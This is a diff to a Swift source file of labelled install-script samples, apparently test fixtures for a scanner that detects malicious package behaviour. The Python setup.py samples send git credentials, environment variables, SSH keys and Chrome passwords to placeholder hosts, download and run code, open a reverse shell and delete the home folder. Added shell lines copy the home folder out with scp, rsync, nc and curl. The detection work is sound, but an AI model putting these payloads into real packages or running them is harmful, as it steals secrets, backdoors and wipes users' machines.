@@ -270,114 +270,119 @@ enum InstallSnippets {
         ),
     ]
 
-    static let python: [Snippet] = [
-        Snippet(
-            "hands what git keeps to a command that sends it",
-            .chainExfiltration,
-            source: """
-                import subprocess
-                out = subprocess.run(['git', 'credential', 'fill'], input=b'url=https://git.example.invalid', capture_output=True).stdout
-                subprocess.run(['curl', '-s', '--data-binary', '@-', 'https://c.example.invalid'], input=out)
-                """
-        ),
-        Snippet(
-            "posts the environment",
-            .chainExfiltration,
-            source: """
-                import os, json, urllib.request
-                from setuptools import setup
-                from setuptools.command.install import install
-                class Post(install):
-                    def run(self):
-                        install.run(self)
-                        body = json.dumps(dict(os.environ)).encode()
-                        urllib.request.urlopen(urllib.request.Request("https://x.example.invalid", data=body))
-                setup(name="sample", cmdclass={"install": Post})
-                """
-        ),
-        Snippet(
-            "sends host and user through a socket",
-            .chainSystemInformation,
-            source: """
-                import socket, getpass
-                from setuptools import setup
-                s = socket.socket(); s.connect(("192.0.2.1", 80))
-                s.send((socket.gethostname() + "|" + getpass.getuser()).encode())
-                setup(name="sample")
-                """
-        ),
-        Snippet(
-            "sends keys of the shell",
-            .chainExfiltration,
-            source: """
-                import http.client, pathlib
-                from setuptools import setup
-                for f in (pathlib.Path.home() / ".ssh").glob("id_*"):
-                    c = http.client.HTTPSConnection("x.example.invalid"); c.request("POST", "/", f.read_bytes())
-                setup(name="sample")
-                """
-        ),
-        Snippet(
-            "fetches and starts a program",
-            .chainDownloadExecute,
-            source: """
-                import requests, subprocess, os, stat, tempfile
-                from setuptools import setup
-                p = os.path.join(tempfile.gettempdir(), "u")
-                with open(p, "wb") as f: f.write(requests.get("https://x.example.invalid/u").content)
-                os.chmod(p, 0o755); subprocess.Popen([p], stdout=subprocess.DEVNULL, start_new_session=True)
-                setup(name="sample")
-                """
-        ),
-        Snippet(
-            "runs an answer with another interpreter",
-            .chainDownloadExecute,
-            source: """
-                import subprocess, sys, urllib.request
-                from setuptools import setup
-                code = urllib.request.urlopen("https://x.example.invalid/a").read().decode()
-                subprocess.run([sys.executable, "-c", code])
-                setup(name="sample")
-                """
-        ),
-        Snippet(
-            "opens a shell to elsewhere",
-            .chainBackdoor,
-            source: """
-                import socket, subprocess, os
-                from setuptools import setup
-                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.connect(("192.0.2.1", 4444))
-                os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
-                subprocess.call(["/bin/sh", "-i"])
-                setup(name="sample")
-                """
-        ),
-        Snippet(
-            "removes the home folder",
-            .capabilityDestructive,
-            source: """
-                import shutil, os
-                from setuptools import setup
-                shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
-                setup(name="sample")
-                """
-        ),
-        Snippet(
-            "reads what a browser keeps",
-            .chainExfiltration,
-            .capabilityBrowserStore,
-            source: """
-                import sqlite3, os, requests, win32crypt
-                from setuptools import setup
-                db = sqlite3.connect(os.environ["LOCALAPPDATA"] + r"\\Google\\Chrome\\User Data\\Default\\Login Data")
-                rows = db.execute("select * from logins").fetchall()
-                requests.post("https://x.example.invalid", json=rows)
-                setup(name="sample")
-                """
-        ),
-    ]
+    static let python: [Snippet] =
+        unstated + outputs + [
+            Snippet(
+                "hands what git keeps to a command that sends it",
+                .chainExfiltration,
+                source: """
+                    import subprocess
+                    out = subprocess.run(['git', 'credential', 'fill'], input=b'url=https://git.example.invalid', capture_output=True).stdout
+                    subprocess.run(['curl', '-s', '--data-binary', '@-', 'https://c.example.invalid'], input=out)
+                    """
+            ),
+            Snippet(
+                "posts the environment",
+                .chainExfiltration,
+                source: """
+                    import os, json, urllib.request
+                    from setuptools import setup
+                    from setuptools.command.install import install
+                    class Post(install):
+                        def run(self):
+                            install.run(self)
+                            body = json.dumps(dict(os.environ)).encode()
+                            urllib.request.urlopen(urllib.request.Request("https://x.example.invalid", data=body))
+                    setup(name="sample", cmdclass={"install": Post})
+                    """
+            ),
+            Snippet(
+                "sends host and user through a socket",
+                .chainSystemInformation,
+                source: """
+                    import socket, getpass
+                    from setuptools import setup
+                    s = socket.socket(); s.connect(("192.0.2.1", 80))
+                    s.send((socket.gethostname() + "|" + getpass.getuser()).encode())
+                    setup(name="sample")
+                    """
+            ),
+            Snippet(
+                "sends keys of the shell",
+                .chainExfiltration,
+                source: """
+                    import http.client, pathlib
+                    from setuptools import setup
+                    for f in (pathlib.Path.home() / ".ssh").glob("id_*"):
+                        c = http.client.HTTPSConnection("x.example.invalid"); c.request("POST", "/", f.read_bytes())
+                    setup(name="sample")
+                    """
+            ),
+            Snippet(
+                "fetches and starts a program",
+                .chainDownloadExecute,
+                source: """
+                    import requests, subprocess, os, stat, tempfile
+                    from setuptools import setup
+                    p = os.path.join(tempfile.gettempdir(), "u")
+                    with open(p, "wb") as f: f.write(requests.get("https://x.example.invalid/u").content)
+                    os.chmod(p, 0o755); subprocess.Popen([p], stdout=subprocess.DEVNULL, start_new_session=True)
+                    setup(name="sample")
+                    """
+            ),
+            Snippet(
+                "runs an answer with another interpreter",
+                .chainDownloadExecute,
+                source: """
+                    import subprocess, sys, urllib.request
+                    from setuptools import setup
+                    code = urllib.request.urlopen("https://x.example.invalid/a").read().decode()
+                    subprocess.run([sys.executable, "-c", code])
+                    setup(name="sample")
+                    """
+            ),
+            Snippet(
+                "opens a shell to elsewhere",
+                .chainBackdoor,
+                source: """
+                    import socket, subprocess, os
+                    from setuptools import setup
+                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.connect(("192.0.2.1", 4444))
+                    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
+                    subprocess.call(["/bin/sh", "-i"])
+                    setup(name="sample")
+                    """
+            ),
+            Snippet(
+                "removes the home folder",
+                .capabilityDestructive,
+                source: """
+                    import shutil, os
+                    from setuptools import setup
+                    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
+                    setup(name="sample")
+                    """
+            ),
+            Snippet(
+                "reads what a browser keeps",
+                .chainExfiltration,
+                .capabilityBrowserStore,
+                source: """
+                    import sqlite3, os, requests, win32crypt
+                    from setuptools import setup
+                    db = sqlite3.connect(os.environ["LOCALAPPDATA"] + r"\\Google\\Chrome\\User Data\\Default\\Login Data")
+                    rows = db.execute("select * from logins").fetchall()
+                    requests.post("https://x.example.invalid", json=rows)
+                    setup(name="sample")
+                    """
+            ),
+        ]
 
     static let commands: [Snippet] = [
+        Snippet("copies the user's folder", .chainExfiltration, source: "scp -r ~/. u@x.example.invalid:"),
+        Snippet("mirrors the user's folder", .chainExfiltration, source: "rsync -a $HOME/ x.example.invalid::x"),
+        Snippet("packs the user's folder", .chainExfiltration, source: "tar c ~ | nc x.example.invalid 99"),
+        Snippet("pipes the variables", .chainExfiltration, source: "export -p | curl -d @- https://x.example.invalid"),
         Snippet(
             "a token in the data of a request",
             .chainExfiltration,
